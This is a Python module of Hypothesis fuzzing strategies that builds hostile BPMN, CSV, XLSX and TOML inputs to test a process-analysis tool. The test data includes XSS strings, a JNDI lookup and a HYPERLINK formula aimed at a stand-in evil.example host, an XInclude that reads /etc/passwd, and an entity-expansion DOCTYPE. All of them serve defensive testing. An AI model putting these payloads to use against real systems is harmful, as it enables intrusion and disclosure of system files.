"""Hypothesis strategies for hostile inputs: BPMN structure, names, encodings, numbers, survey sheets, profiles.

Shared by the input-side tests here and the output-side tests (report
safety) next to them.  Everything is generated as *bytes on disk*, the way
a file share delivers it, so encodings, BOMs and broken XML are part of what
is generated rather than something a test harness smooths over.

Names never start with a formula trigger (``= + - @``, tab, CR): what a
spreadsheet does with those is the output-side suite's subject; here the
names probe XML, HTML, SVG, Graphviz and matching.
"""

from __future__ import annotations

import io
import os
import string
from collections.abc import Callable
from dataclasses import dataclass, field
from xml.sax.saxutils import escape, quoteattr

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

MODEL_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
BPMNDI_NS = "http://www.omg.org/spec/BPMN/20100524/DI"
DC_NS = "http://www.omg.org/spec/DD/20100524/DC"
DI_NS = "http://www.omg.org/spec/DD/20100524/DI"
CAMUNDA_NS = "http://camunda.org/schema/1.0/bpmn"

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# --------------------------------------------------------------------------- names

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "http://evil.example/x.png",
    "//evil.example/y",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "</text></svg><script>alert(2)</script>",
    "a\\b/c:d*e?f\"g<h>i|j",
    "label=\"x\" URL=\"http://evil.example\"",
    "\u202eevil\u202c",
    "zero\u200bwidth\u2060joiner",
    "本人確認\u3000（代理人）",
    "ﾃﾝﾆｭｳ届　ＡＢＣ",
    "🏢🔥",
    "<r>broken<x</r>",  # XlsxWriter wrote a text shaped like rich-text markup raw (an unreadable workbook)
    "<r><t>hidden</t></r>",
    "x" * 300,
    "住民票" * 120,
)

_TEXT = st.characters(
    codec="utf-8",
    exclude_categories=("Cs",),
    exclude_characters="\x00",
)


def names(*, max_size: int = 60) -> st.SearchStrategy[str]:
    """Step, lane and pool names: Japanese, markup, URLs, bidi controls, long text; no leading formula trigger."""
    text = st.one_of(
        st.text(_TEXT, max_size=max_size),
        st.sampled_from(PAYLOADS),
        st.text(st.sampled_from("受付審査入力交付本人確認住民票転入届（）・ー　 \n\t<>&\"'"), max_size=max_size),
    )
    return text.map(_no_formula_start)


def _no_formula_start(text: str) -> str:
    while text and text[0] in FORMULA_TRIGGERS:
        text = text[1:]
    return text


def xml_text(text: str) -> str:
    """``text`` as XML character data; characters XML 1.0 cannot hold are dropped (they are tested separately)."""
    return escape("".join(c for c in text if _xml_char(c)))


def xml_attr(text: str) -> str:
    return quoteattr("".join(c for c in text if _xml_char(c)))


def _xml_char(c: str) -> bool:
    code = ord(c)
    return code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD or code >= 0x10000


# --------------------------------------------------------------------------- numbers

HOSTILE_NUMBERS = (
    "nan", "NaN", "inf", "-inf", "Infinity", "1e308", "1e309", "-1e308", "1e-320", "0", "-0", "-1", "0.5",
    "3,5", "1,234", "12,50", "1,2,3", "１２３", "５,２００", "1_000", "0x10", "1e5", ".5", "5.", "",
    " ", "−5", "15%", "150%", "１５％", "%", "5200件", "3分", "1e-7", "99999999999999999999", "٣",
)


def numeric_texts() -> st.SearchStrategy[str]:
    """Texts a cell or property may hold where a number is expected."""
    return st.one_of(
        st.sampled_from(HOSTILE_NUMBERS),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.integers(-(10**30), 10**30).map(str),
        st.decimals(allow_nan=False, allow_infinity=False, places=3).map(str),
    )


# --------------------------------------------------------------------------- BPMN

TASKS = ("task", "userTask", "manualTask", "serviceTask", "scriptTask", "sendTask", "receiveTask",
         "businessRuleTask", "callActivity")
GATEWAYS = ("exclusiveGateway", "parallelGateway", "inclusiveGateway", "complexGateway", "eventBasedGateway")
EVENTS = ("startEvent", "endEvent", "intermediateThrowEvent", "intermediateCatchEvent")
PROPERTIES = ("probability", "instances", "minutes", "annual_count", "件数", "input", "judgment")


@dataclass
class Element:
    tag: str
    ident: str
    name: str
    properties: dict[str, str] = field(default_factory=dict)
    extra: str = ""
    children: list[Element] = field(default_factory=list)


@dataclass
class Model:
    """A generated process model, written out by :func:`bpmn_bytes`."""

    process_id: str
    process_name: str
    elements: list[Element]
    flows: list[tuple[str, str, str, dict[str, str]]]
    process_properties: dict[str, str]
    lanes: list[tuple[str, str, list[str]]]
    diagram: bool
    coordinates: list[str]


def _idents() -> st.SearchStrategy[str]:
    first = st.sampled_from(string.ascii_letters + "_住")
    rest = st.text(st.sampled_from(string.ascii_letters + string.digits + "_-.申請"), max_size=12)
    return st.builds(lambda a, b: a + b, first, rest)


@st.composite
def models(draw: st.DrawFn, *, max_nodes: int = 14) -> Model:
    """A process of random elements and flows: loops, dangling references, odd gateways and all."""
    count = draw(st.integers(1, max_nodes))
    idents = draw(st.lists(_idents(), min_size=count, max_size=count, unique=True))
    kinds = draw(st.lists(st.sampled_from(TASKS + GATEWAYS + EVENTS + ("subProcess", "boundaryEvent")),
                          min_size=count, max_size=count))
    if draw(st.booleans()):
        kinds[0] = "startEvent"
    elements: list[Element] = []
    for ident, kind in zip(idents, kinds, strict=True):
        props = draw(st.dictionaries(st.sampled_from(PROPERTIES), numeric_texts(), max_size=2))
        extra = ""
        if kind == "callActivity":
            called = draw(st.sampled_from(["", "p", "missing", idents[0], "  p  "]))
            extra = f" calledElement={xml_attr(called)}" if called else ""
        elif kind == "boundaryEvent":
            extra = f" attachedToRef={xml_attr(draw(st.sampled_from(idents)))}"
            extra += draw(st.sampled_from(["", ' cancelActivity="false"']))
        elif kind in TASKS and draw(st.integers(0, 4)) == 0:
            extra = "§multi"
        element = Element(kind, ident, draw(names()), props, extra)
        if kind == "subProcess" and draw(st.booleans()):
            inner = draw(_idents().filter(lambda i: i not in idents))
            element.children = [Element("startEvent", inner + "_s", ""), Element("task", inner + "_t", draw(names()))]
        elements.append(element)
    all_ids = idents + [c.ident for e in elements for c in e.children]
    flow_count = draw(st.integers(0, 2 * count))
    flows = []
    for number in range(flow_count):
        source = draw(st.sampled_from([*all_ids, "dangling"]))
        target = draw(st.sampled_from([*all_ids, "dangling"]))
        props = draw(st.dictionaries(st.just("probability"), numeric_texts(), max_size=1))
        flows.append((f"flow_{number}", source, target, props))
    lanes = []
    if draw(st.booleans()):
        members = draw(st.lists(st.sampled_from(idents), max_size=count))
        lanes.append(("lane_a", draw(names()), members))
    coordinates = draw(st.lists(st.one_of(st.sampled_from(["nan", "inf", "-1e308", "1e308", "16000", "0", "x"]),
                                          st.integers(-100, 5000).map(str)), min_size=4, max_size=4))
    return Model(
        process_id=draw(st.sampled_from(["p", "Process_1", "転入届"])),
        process_name=draw(names()),
        elements=elements,
        flows=flows,
        process_properties=draw(st.dictionaries(st.sampled_from(["annual_count", "件数"]), numeric_texts(),
                                                max_size=1)),
        lanes=lanes,
        diagram=draw(st.booleans()),
        coordinates=coordinates,
    )


def _properties(props: dict[str, str]) -> str:
    if not props:
        return ""
    items = "".join(f"<camunda:property name={xml_attr(k)} value={xml_attr(v)}/>" for k, v in props.items())
    return f"<extensionElements><camunda:properties>{items}</camunda:properties></extensionElements>"


def _element(element: Element) -> str:
    multi = "§multi" in element.extra
    extra = element.extra.replace("§multi", "")
    inner = _properties(element.properties)
    if element.tag in ("intermediateThrowEvent", "intermediateCatchEvent") and element.name:
        inner += f"<linkEventDefinition name={xml_attr(element.name[:20])}/>"
    if multi:
        inner += "<multiInstanceLoopCharacteristics/>"
    inner += "".join(_element(child) for child in element.children)
    return f"<{element.tag} id={xml_attr(element.ident)} name={xml_attr(element.name)}{extra}>{inner}</{element.tag}>"


def model_xml(model: Model) -> str:
    """The model as BPMN 2.0 XML text (one element per line, so line numbers mean something)."""
    lines = [
        f'<definitions xmlns="{MODEL_NS}" xmlns:camunda="{CAMUNDA_NS}" xmlns:bpmndi="{BPMNDI_NS}" '
        f'xmlns:dc="{DC_NS}" xmlns:di="{DI_NS}" id="defs" targetNamespace="urn:hostile">',
        f"<process id={xml_attr(model.process_id)} name={xml_attr(model.process_name)}>"
        + _properties(model.process_properties),
    ]
    if model.lanes:
        lines.append("<laneSet id='ls'>")
        for ident, name, members in model.lanes:
            refs = "".join(f"<flowNodeRef>{xml_text(m)}</flowNodeRef>" for m in members)
            lines.append(f"<lane id={xml_attr(ident)} name={xml_attr(name)}>{refs}</lane>")
        lines.append("</laneSet>")
    lines.extend(_element(e) for e in model.elements)
    for ident, source, target, props in model.flows:
        lines.append(f"<sequenceFlow id={xml_attr(ident)} sourceRef={xml_attr(source)} "
                     f"targetRef={xml_attr(target)}>{_properties(props)}</sequenceFlow>")
    lines.append("</process>")
    if model.diagram:
        x, y, w, h = model.coordinates
        plane = xml_attr(model.process_id)
        lines.append(f"<bpmndi:BPMNDiagram id='dia'><bpmndi:BPMNPlane id='plane' bpmnElement={plane}>")
        for index, element in enumerate(model.elements):
            lines.append(f"<bpmndi:BPMNShape id='shape_{index}' bpmnElement={xml_attr(element.ident)}>"
                         f"<dc:Bounds x={xml_attr(x if index == 0 else str(index * 120))} y={xml_attr(y)} "
                         f"width={xml_attr(w)} height={xml_attr(h)}/></bpmndi:BPMNShape>")
        lines.append("</bpmndi:BPMNPlane></bpmndi:BPMNDiagram>")
    lines.append("</definitions>")
    return "\n".join(lines) + "\n"


ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "cp932-as-utf-8", "cp1252-as-utf-8", "cp932", "latin-1-lie")


def encode_document(text: str, encoding: str) -> bytes:
    """XML text as the bytes a tool might write: honest encodings, BOMs and declarations that lie."""
    if encoding == "utf-8":
        return ('<?xml version="1.0" encoding="UTF-8"?>\n' + text).encode("utf-8")
    if encoding == "utf-8-sig":
        return ('<?xml version="1.0" encoding="UTF-8"?>\n' + text).encode("utf-8-sig")
    if encoding == "utf-16":
        return ('<?xml version="1.0" encoding="UTF-16"?>\n' + text).encode("utf-16")
    if encoding == "cp932":
        return ('<?xml version="1.0" encoding="Shift_JIS"?>\n' + text).encode("cp932", errors="replace")
    if encoding == "cp932-as-utf-8":
        return ('<?xml version="1.0" encoding="UTF-8"?>\n' + text).encode("cp932", errors="replace")
    if encoding == "cp1252-as-utf-8":
        return ('<?xml version="1.0" encoding="UTF-8"?>\n' + text).encode("cp1252", errors="replace")
    return ('<?xml version="1.0" encoding="ISO-8859-1"?>\n' + text).encode("utf-8")


@st.composite
def bpmn_files(draw: st.DrawFn) -> bytes:
    """A whole BPMN file as bytes: a generated model in a generated encoding, sometimes damaged."""
    text = model_xml(draw(models()))
    damage = draw(st.sampled_from(["none"] * 6 + ["truncate", "bad-char", "doctype", "xinclude", "nul"]))
    if damage == "truncate":
        text = text[: draw(st.integers(0, max(0, len(text) - 1)))]
    elif damage == "bad-char":
        text = text.replace("name=", 'name="\x01" x=', 1)
    elif damage == "doctype":
        text = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>\n' + text
    elif damage == "xinclude":
        text = text.replace("</process>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                            'href="file:///etc/passwd" parse="text"/></process>', 1)
    elif damage == "nul":
        text = text.replace(">", ">\x00", 1)
    return encode_document(text, draw(st.sampled_from(ENCODINGS)))


# --------------------------------------------------------------------------- survey sheets

SURVEY_HEADERS = ("業務", "手順ID", "手順", "件数", "処理時間(分)", "例外率", "入力形式", "使用システム", "判断",
                  "公権力の行使", "分岐確率", "備考", "flow", "step", "minutes", "担当者", "", "業務")


@st.composite
def survey_rows(draw: st.DrawFn) -> list[list[str]]:
    """A header (known, unknown, duplicate and empty columns) and rows of hostile cells."""
    header = draw(st.lists(st.sampled_from(SURVEY_HEADERS), min_size=1, max_size=8))
    if draw(st.integers(0, 3)):
        header = ["業務", "手順", *header]
    cell = st.one_of(numeric_texts(), names(max_size=20), st.sampled_from(
        ["転入届", "住民票の写し交付", "受付", "本人確認", "有", "無", "紙", "電子", "○", "×", "Flow_x"]))
    rows = draw(st.lists(st.lists(cell, max_size=len(header) + 2), max_size=8))
    return [header, *rows]


@st.composite
def csv_sheets(draw: st.DrawFn) -> bytes:
    """A survey CSV: quoting hazards (unclosed quotes, quotes inside cells, newlines), delimiters, encodings."""
    rows = draw(survey_rows())
    delimiter = draw(st.sampled_from([",", ",", "\t", ";"]))
    out = io.StringIO()
    for row in rows:
        cells = []
        for value in row:
            style = draw(st.sampled_from(["plain", "plain", "quoted", "unclosed", "inner-quote"]))
            if style == "quoted":
                cells.append('"' + value.replace('"', '""') + '"')
            elif style == "unclosed":
                cells.append('"' + value)
            elif style == "inner-quote":
                cells.append('"' + value + '"x')
            else:
                cells.append(value)
        out.write(delimiter.join(cells) + draw(st.sampled_from(["\r\n", "\n", "\r"])))
    text = out.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp932", "utf-16"]))
    return text.encode(encoding, errors="replace")


@st.composite
def xlsx_sheets(draw: st.DrawFn) -> bytes:
    """A survey workbook: typed cells, formulas without saved results, stray cells far right and below."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = draw(st.sampled_from(["業務量調査", "Sheet1", "survey", "説明"]))
    for row in draw(survey_rows()):
        typed: list[object] = []
        for value in row:
            kind = draw(st.sampled_from(["text", "text", "number", "formula", "bool", "none"]))
            if kind == "number":
                number = st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.integers(-10**15, 10**15))
                typed.append(draw(number))
            elif kind == "formula":
                typed.append(draw(st.sampled_from(["=1+1", "=C2*2", "=1/0", '=HYPERLINK("http://evil.example","x")'])))
            elif kind == "bool":
                typed.append(draw(st.booleans()))
            elif kind == "none":
                typed.append(None)
            else:
                typed.append(_xlsx_safe(value))
        sheet.append(typed)
    for _ in range(draw(st.integers(0, 3))):
        row = draw(st.integers(1, 200_000))
        column = draw(st.sampled_from([1, 2, 50, 300, 16384]))
        sheet.cell(row=row, column=column, value=_xlsx_safe(draw(names(max_size=5))) or "x")
    if draw(st.booleans()):
        workbook.create_sheet("メモ").append(["業務", "手順"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_safe(text: str) -> str:
    """openpyxl refuses control characters in strings (Excel cannot store them)."""
    return "".join(c for c in text if c in "\t\n\r" or (ord(c) >= 0x20 and _xml_char(c)))


# --------------------------------------------------------------------------- profiles

PROFILE_KEYS = (
    ("cost", "staff_yen_per_hour"), ("cost", "contractor_yen_per_hour"), ("cost", "rpa_reduction"),
    ("cost", "outsource_one_off_yen"), ("volume", "default_annual_cases"), ("volume", "hours_at_one"),
    ("working", "hours_per_fte"), ("minutes", "task"), ("weights.rpa", "routine"), ("thresholds", "rpa"),
    ("handoff", "max_per_case"), ("nonsense", "key"), ("cost", "unknown"),
    # the money model's tables (issue 9): prices, shares, years, and a range around a value
    ("outsource", "seat_hour_price"), ("staffing", "redeploy_share"), ("cashflow", "horizon_years"),
    ("queue", "peak_month_factor"), ("staff.regular", "pay_per_fte"), ("rpa", "licence_per_robot_year"),
)
TOML_VALUES = ("1e300", "1.7976931348623157e308", "inf", "-inf", "nan", "-1", "0", "1", "0.5", '"text"', "true",
               "[1, 2]", "{ value = 1e308 }", '{ value = 3000, source = "x" }', "{ value = nan }", "1_000",
               "0x10", "1979-05-27", "{ value = 2, low = 3, high = 1 }", "{ value = 1, low = -1e300, high = 1e300 }",
               "{ value = 1, low = 1 }")


@st.composite
def profiles(draw: st.DrawFn) -> bytes:
    """A user profile: known and unknown keys, out-of-range and mistyped values, deep nesting, BOMs, bad bytes."""
    tables: dict[str, list[str]] = {}
    for table, key in draw(st.lists(st.sampled_from(PROFILE_KEYS), max_size=5)):
        value = draw(st.one_of(st.sampled_from(TOML_VALUES), st.floats().map(_toml_float)))
        tables.setdefault(table, []).append(f"{key} = {value}")
    text = "".join(f"[{table}]\n" + "\n".join(dict.fromkeys(lines)) + "\n" for table, lines in tables.items())
    shape = draw(st.sampled_from(["plain"] * 5 + ["deep-array", "deep-table", "broken", "name"]))
    if shape == "deep-array":
        depth = draw(st.integers(10, 5000))
        text += "x = " + "[" * depth + "]" * depth + "\n"
    elif shape == "deep-table":
        depth = draw(st.integers(10, 3000))
        text += "y = " + "{a=" * depth + "1" + "}" * depth + "\n"
    elif shape == "broken":
        text += draw(st.sampled_from(['[cost\n', 'a = "unclosed\n', "= 1\n", "[[cost]]\n", "\x00\n"]))
    elif shape == "name":
        text = f"[profile]\nname = {_toml_string(draw(names()))}\n" + text
    data = text.encode("utf-8")
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "bom", "cp932", "latin-1-bytes"]))
    if encoding == "bom":
        data = b"\xef\xbb\xbf" + data
    elif encoding == "cp932":
        data = ("# 人件費の設定\n" + text).encode("cp932", errors="replace")
    elif encoding == "latin-1-bytes":
        data = data + b"# \xe9\xff\n"
    return data


def _toml_float(value: float) -> str:
    if value != value:
        return "nan"
    if value in (float("inf"), float("-inf")):
        return "inf" if value > 0 else "-inf"
    return repr(value)


def _toml_string(text: str) -> str:
    escaped = "".join(c if c not in '"\\' and ord(c) >= 0x20 and ord(c) != 0x7F else f"\\u{ord(c):04x}"
                      for c in text if not 0xD800 <= ord(c) <= 0xDFFF)
    return f'"{escaped}"'


# --------------------------------------------------------------------------- settings


def hostile(examples: int) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Hypothesis settings of the suite: a fixed number of examples, derandomized so CI cannot flake.

    ``BPM_HOSTILE_EXAMPLES`` multiplies the number of examples for a deeper local run
    (e.g. ``BPM_HOSTILE_EXAMPLES=20 pytest tests/hostile``, random rather than
    derandomized); the default keeps the suite within its CI budget.  Failing
    examples are not shrunk unless ``BPM_HOSTILE_SHRINK=1``: each shrink step
    is another run of ``bpm``.
    """
    factor = max(1, int(os.environ.get("BPM_HOSTILE_EXAMPLES", "1")))
    phases = [Phase.explicit, Phase.reuse, Phase.generate]
    if os.environ.get("BPM_HOSTILE_SHRINK"):
        phases.append(Phase.shrink)  # every shrink step is a run of bpm: slow, so only on request
    return settings(
        max_examples=examples * factor,
        derandomize=factor == 1,
        deadline=None,
        database=None,
        phases=phases,
        print_blob=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                               HealthCheck.function_scoped_fixture, HealthCheck.large_base_example],
    )
